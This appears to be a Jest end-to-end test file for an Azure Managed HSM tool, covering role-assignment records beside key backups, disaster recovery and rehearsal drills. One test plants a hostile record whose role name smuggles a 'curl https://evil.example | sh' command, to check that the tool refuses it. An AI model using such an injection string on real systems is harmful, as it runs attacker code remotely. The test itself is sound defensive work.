/**
 * End to end through dist/index.js: recovery ends converged, or says exactly what is missing (issue 23 §3).
 * apply records the key's role assignments (principal, role, scope) beside its backup in key-backup-store;
 * after a disaster, recover restores the security domain and the key, applies the inputs' role assignments as
 * apply would, compares the new HSM with the record and names what the inputs do not list, with the next
 * step. Its headline is "Recovered: same KEK_KID". A rehearsal HSM has 7 days' retention and no purge
 * protection, and its summary reads "Rehearsal passed" or "Rehearsal failed".
 */
import { describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { azureClient, baseInputs, errorsOf } from '../../scripts/local-runner.js'
import { useScenario, writesFrom } from './harness.js'

const hsm = 'rc-prod'
const drill = 'rc-drill'
/** A workload's identity the inputs grant release to. */
const WORKLOAD = '7a1e5c3b-0d2f-4e6a-9b8c-1d2e3f4a5b6c'
/** An auditor granted by hand, outside the inputs (named in known-principals). */
const AUDITOR = '3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f'
const AUDITOR_ROLE = '2c18b078-7c48-4d3a-af88-5a3a1b3f82b3'

const hsmUri = (name = hsm) => `https://${name}.managedhsm.azure.net/`
const backupBase = () => `${s.info.storageAccountUrl}/${s.info.storageContainer}/${hsm}/kek-backup.bin`

// The wrapping keys in the pre-created vault, apart from the security domain's blob.
const s = useScenario({
  hsm,
  emulator: { provisioningSeconds: 1, activationSeconds: 1 },
  keys: 'escrow vault',
  inputs: () => ({
    'retention-days': '30',
    'release-policy-preset': 'sev-snp-cvm',
    'key-backup-store': backupBase(),
    'role-assignments': `Managed HSM Crypto Service Release User | ${WORKLOAD} | /keys/KeyEncryptionKey`,
    'known-principals': AUDITOR
  })
})

const rolesOf = async (principal: string, name = hsm) =>
  (
    JSON.parse(await azureClient(s.info, 'role-list', hsmUri(name), principal)) as {
      value: Array<{ properties: { scope: string; roleDefinitionId: string } }>
    }
  ).value.map(a => [a.properties.scope, a.properties.roleDefinitionId.split('/').pop()])

let kid = ''

describe('apply records the key’s role assignments beside its backup', () => {
  it('writes a record once, and a new one when the assignments change', async () => {
    const first = await s.run(s.inputs())
    expect(errorsOf(first)).toEqual([])
    kid = first.outputs.KEK_KID
    const recorded =
      /recorded the (\d+) role assignment\(s\) that reach 'KeyEncryptionKey' \(principal, role, scope\) at (\S+),/.exec(
        first.stdout
      )
    expect(recorded).not.toBeNull()
    const url = (recorded as RegExpExecArray)[2]
    expect(url).toMatch(
      new RegExp(`/${hsm}/kek-backup-${kid.split('/').pop()}-\\d{10}-roles-[0-9a-f]{12}\\.bin$`)
    )
    const record = JSON.parse(await azureClient(s.info, 'blob-get', url)) as {
      kid: string
      assignments: Array<{ principalId: string; role: string; scope: string }>
    }
    expect(record.kid).toBe(kid)
    expect(record.assignments).toContainEqual({
      principalId: WORKLOAD,
      role: 'Managed HSM Crypto Service Release User',
      scope: '/keys/KeyEncryptionKey'
    })

    // A converged rerun writes no record.
    const since = (await s.emu.requests()).length
    const rerun = await s.run(s.inputs())
    expect(errorsOf(rerun)).toEqual([])
    expect(rerun.stdout).toMatch(/role assignment\(s\) of 'KeyEncryptionKey' are recorded at/)
    expect(await writesFrom(s.emu, since)).toEqual([])

    // Granted by hand, outside the inputs: the next apply records it too.
    await azureClient(
      s.info,
      'role-put',
      hsmUri(),
      '/keys',
      '5d6e7f80-9a1b-4c2d-8e3f-4a5b6c7d8e9f',
      AUDITOR_ROLE,
      AUDITOR
    )
    const after = await s.run(s.inputs())
    expect(errorsOf(after)).toEqual([])
    const again = /recorded the \d+ role assignment\(s\) .* at (\S+),/.exec(after.stdout)
    expect(again?.[1]).toBeDefined()
    expect(again?.[1]).not.toBe(url)
    expect(JSON.parse(await azureClient(s.info, 'blob-get', again![1])).assignments).toContainEqual({
      principalId: AUDITOR,
      role: 'Managed HSM Crypto Auditor',
      scope: '/keys'
    })
  })

  it('the disaster: teardown deletes and purges the HSM', async () => {
    const run = await s.run({ ...baseInputs(s.info, hsm), mode: 'teardown', 'confirm-teardown': hsm })
    expect(errorsOf(run)).toEqual([])
  })
})

describe('recover', () => {
  it('applies the inputs’ role assignments, names the recorded one the inputs lack, and says "same KEK_KID"', async () => {
    const run = await s.run(s.inputs({ mode: 'recover' }))
    expect(errorsOf(run)).toEqual([])
    expect(run.outputs.KEK_KID).toBe(kid)
    // The inputs' grant is back, as apply would make it.
    expect(await rolesOf(WORKLOAD)).toEqual([
      ['/keys/KeyEncryptionKey', '21dbd100-6940-42c2-9190-5d6cb909625c']
    ])
    expect(run.summary).toMatch(
      /assign 'Managed HSM Crypto Service Release User' to 7a1e5c3b-0d2f-4e6a-9b8c-1d2e3f4a5b6c at scope \/keys\/KeyEncryptionKey/
    )
    // The hand-made one is not in the inputs: named, with the next step.
    expect(await rolesOf(AUDITOR)).toEqual([])
    expect(run.stdout).toMatch(
      /::warning::recover: missing: 'Managed HSM Crypto Auditor' for 3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f at \/keys \(recorded with the key backup\); next step: add 'Managed HSM Crypto Auditor \| 3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f \| \/keys' to role-assignments and run mode: apply/
    )
    expect(run.summary).toMatch(
      /\*\*⚠️ Recovered: same KEK_KID; 1 role assignment\(s\) recorded with the key backup missing\.\*\*/
    )
    expect(run.summary).not.toMatch(/Applied: \d+ step/)
  })

  it('once the inputs list it too, a rerun grants it and ends converged', async () => {
    const both = `Managed HSM Crypto Service Release User | ${WORKLOAD} | /keys/KeyEncryptionKey\nManaged HSM Crypto Auditor | ${AUDITOR} | /keys`
    const run = await s.run(s.inputs({ mode: 'recover', 'role-assignments': both }))
    expect(errorsOf(run)).toEqual([])
    expect(await rolesOf(AUDITOR)).toEqual([['/keys', AUDITOR_ROLE]])
    expect(run.stdout).toMatch(/all \d+ role assignment\(s\) recorded with the key backup are in place/)
    expect(run.summary).toMatch(/\*\*✅ Recovered: same KEK_KID\.\*\*/)
  })
})

describe('a record is evidence, not authority', () => {
  it('a planted record with words no assignment can hold is refused, and the last good one stands', async () => {
    const hostile = JSON.stringify({
      key: 'KeyEncryptionKey',
      kid,
      assignments: [{ principalId: AUDITOR, role: 'Reader"; curl https://evil.example | sh; "', scope: '/' }]
    })
    const name = `${backupBase().replace(/\.bin$/, '')}-${kid.split('/').pop()}-9999999999-roles-0123456789ab.bin`
    await azureClient(
      s.info,
      'blob-put',
      name,
      hostile,
      JSON.stringify({
        kind: 'key-roles',
        hsm,
        sha256: createHash('sha256').update(hostile).digest('hex'),
        key: 'KeyEncryptionKey',
        created: '2099-01-01T00:00:00.000Z'
      })
    )
    const run = await s.run(s.inputs({ mode: 'recover' }))
    expect(errorsOf(run)).toEqual([])
    expect(run.stdout).toMatch(/not a role assignment record \(a role name with unexpected characters\)/)
    expect(run.everything).not.toContain('evil.example')
    // The last good record is what the HSM is compared with (the auditor is back since the rerun above).
    expect(run.stdout).toMatch(/all \d+ role assignment\(s\) recorded with the key backup are in place/)
  })
})

describe('rehearsal', () => {
  it('creates its HSM with 7 days’ retention and no purge protection; the summary reads "Rehearsal passed"', async () => {
    const run = await s.run(s.inputs({ mode: 'recover', 'rehearsal-hsm-name': drill }))
    expect(errorsOf(run)).toEqual([])
    expect(run.stdout).toMatch(
      new RegExp(`create Managed HSM '${drill}'[^\\n]*\\n(.*\\n)*?.*retention: 7 days`)
    )
    expect(run.stdout).toMatch(
      new RegExp(`create Managed HSM '${drill}'[^\\n]*\\n(.*\\n)*?.*purge protection: off`)
    )
    expect(run.summary).toMatch(/\*\*✅ Rehearsal passed: /)
    expect(run.summary).toMatch(/rehearsal passed: the same key \(name and version\)/)
  })

  it('a failed restore reads "Rehearsal failed"', async () => {
    await s.emu.setSettings({ failNextActivation: true })
    const run = await s.run(s.inputs({ mode: 'recover', 'rehearsal-hsm-name': drill }))
    expect(run.code).toBe(1)
    expect(run.summary).toMatch(/\*\*❌ Rehearsal failed: /)
    expect(run.summary).not.toMatch(/Rehearsal passed/)
  })
})
